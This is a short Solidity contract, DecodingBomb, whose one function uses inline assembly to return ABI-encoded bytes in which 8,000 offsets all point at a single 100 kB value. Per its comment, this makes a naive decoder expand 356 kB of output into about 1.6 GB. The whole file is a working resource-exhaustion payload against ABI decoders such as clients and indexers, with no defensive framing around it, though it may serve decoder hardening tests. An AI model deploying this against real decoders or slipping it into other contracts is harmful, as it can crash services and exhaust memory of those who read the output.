// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract DecodingBomb {
  /** 356 kB: 8,000 offsets that point at one value of 100 kB. A decoder that follows them all makes 1.6 GB of text. */
  function bomb() external pure returns (bytes[] memory) {
    assembly {
      let heads := mul(8000, 32)
      mstore(0, 32)
      mstore(32, 8000)
      for { let at := 0 } lt(at, heads) { at := add(at, 32) } { mstore(add(64, at), heads) }
      mstore(add(64, heads), 100000)
      return(0, add(heads, 100096))
    }
  }
}
